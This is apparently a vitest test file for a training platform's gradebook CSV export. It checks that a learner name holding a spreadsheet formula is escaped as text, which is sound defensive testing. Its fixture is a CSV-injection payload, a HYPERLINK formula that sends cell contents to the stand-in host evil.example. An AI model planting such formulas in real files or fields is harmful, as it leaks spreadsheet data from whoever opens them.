import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { quizSchema } from '../../src/lib/content/quiz-schema.ts';
import { createCohort } from '../../src/lib/server/cohorts/cohorts.ts';
import { enrollInspectorOne } from '../../src/lib/server/enrollment/enroll.ts';
import { getCohortGradebook } from '../../src/lib/server/quizzes/gradebook.ts';
import { gradebookCsvRows } from '../../src/lib/server/quizzes/gradebook-csv.ts';
import { writeCsv } from '../../src/lib/server/reports/csv-writer.ts';
import { createTestDb } from '../db.ts';
import { insertPerson } from '../factories.ts';

const quiz = quizSchema.parse(parse(readFileSync('tests/fixtures/quizzes/sample.yaml', 'utf8')));
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';

describe('gradebook export', () => {
  test('a learner named with a spreadsheet formula comes out as text, and numbers stay numbers', () => {
    const db = createTestDb();
    const cohortId = createCohort(db, { name: 'G', startsOn: '2026-01-01', endsOn: '2026-12-31', instructorIds: [], actorId: null }).id;
    const learner = insertPerson(db, { roles: ['inspector'], fullName: FORMULA }, 101);
    enrollInspectorOne(db, { cohortId, userId: learner.id, actorId: null });
    const quizzes = [{ moduleSlug: '04-subcontratacion-repse', moduleNumber: 4, quiz }];

    const csv = writeCsv(gradebookCsvRows(quizzes, getCohortGradebook(db, cohortId, quizzes)));
    const [header, row] = parseCsv(csv.replace(/^\uFEFF/, '')) as string[][];
    expect(header).toEqual(['nombre', 'correo', 'entidad', 'm4_calificacion', 'm4_aprobado', 'm4_intentos']);
    expect(row).toEqual([`'${FORMULA}`, learner.person.email, 'Puebla', '', 'no', '0']);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
